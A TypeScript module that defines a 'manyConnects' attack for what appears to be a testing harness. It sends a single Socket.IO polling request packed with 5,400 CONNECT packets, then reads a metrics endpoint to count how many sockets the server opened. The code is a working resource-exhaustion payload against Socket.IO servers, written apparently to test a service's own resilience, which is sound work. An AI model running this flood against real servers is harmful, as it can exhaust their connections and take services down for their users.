import type { Attack } from './attack';

const packets = 5_400;
/** Separates the packets of a polling payload. */
const separator = '\x1e';

export const manyConnects: Attack = {
  name: `one polling request with ${packets.toLocaleString('en')} CONNECT packets`,
  async run({ url }) {
    const before = await countSockets(url);
    const path = `${url}/socket.io/?EIO=4&transport=polling`;
    const opened = await (await fetch(path)).text();
    const sid = /"sid":"([^"]+)"/.exec(opened)?.[1];
    const body = Array.from({ length: packets }, () => '40{}').join(separator);
    const response = await fetch(`${path}&sid=${sid}`, { method: 'POST', body });
    await response.arrayBuffer();
    return `${(await countSockets(url)) - before} sockets`;
  },
};

async function countSockets(url: string): Promise<number> {
  const metrics = await (await fetch(`${url}/metrics`)).text();
  return Number(/^alphazone_sockets (\d+)$/m.exec(metrics)?.[1]);
}
